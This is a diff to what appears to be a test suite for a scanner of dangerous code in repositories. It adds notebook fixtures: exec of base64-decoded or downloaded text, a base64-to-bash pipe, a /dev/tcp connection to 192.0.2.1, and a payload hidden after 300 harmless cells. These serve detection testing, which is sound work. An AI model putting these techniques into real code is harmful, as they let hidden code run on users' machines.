@@ -340,6 +340,28 @@ function codeCases(): RepositoryCase[] {
     ['a decorator', 'import os\n@os.system\ndef f():\n    pass\n'],
     ['a function that is called', 'import os\ndef run():\n    os.system("id")\nrun()\n'],
   ];
+  const cells = (...sources: readonly string[]): string =>
+    JSON.stringify({
+      nbformat: 4,
+      cells: sources.map((source) => ({ cell_type: 'code', source: source.split(/(?<=\n)/) })),
+    });
+  const honest = cells(
+    '!pip install torch\n',
+    'import os\nos.system("git clone x")\nexec(open("x.py").read())',
+    'x = !ls -l | sort',
+  );
+  const notebooks: readonly (readonly [string, string])[] = [
+    ['exec of base64', cells('import base64\n', '%time x = 1\nexec(base64.b64decode("aWQ="))')],
+    ['exec of what is downloaded', cells('import requests', 'exec(requests.get("http://x").text)')],
+    ['in the main program', cells('import marshal\nif __name__ == "__main__":\n    exec(marshal.loads(b""))')],
+    ['a shell that is given base64', cells('!echo aWQ= | base64 -d | bash')],
+    ['a cell of a shell', cells('x = 1', '%%bash\nexec 3<>/dev/tcp/192.0.2.1/80\n')],
+    ['a shell whose answer is taken', cells('x = !echo aWQ= | base64 --decode |  /bin/sh')],
+    [
+      'behind many honest calls',
+      cells(...Array.from({ length: 300 }, () => '!ls'), 'exec(__import__("base64").b64decode("aWQ="))'),
+    ],
+  ];
   const named: readonly (readonly [string, string, string])[] = [
     ['hubconf.py', 'import os\nos.system("id")\n', 'import torch\n'],
     ['__init__.py', 'import os\nos.system("id")\n', ''],
@@ -351,6 +373,12 @@ function codeCases(): RepositoryCase[] {
       files: { ...HONEST, 'loader.py': text },
       found: high,
       fixed: { ...HONEST, 'loader.py': 'import os\n\nif __name__ == "__main__":\n    os.system("id")\n' },
+    })),
+    ...notebooks.map(([name, text]) => ({
+      name: `notebook: ${name}`,
+      files: { ...HONEST, 'demo.ipynb': text },
+      found: high,
+      fixed: { ...HONEST, 'demo.ipynb': honest },
     })),
     ...named.map(([name, text, good]) => ({
       name,
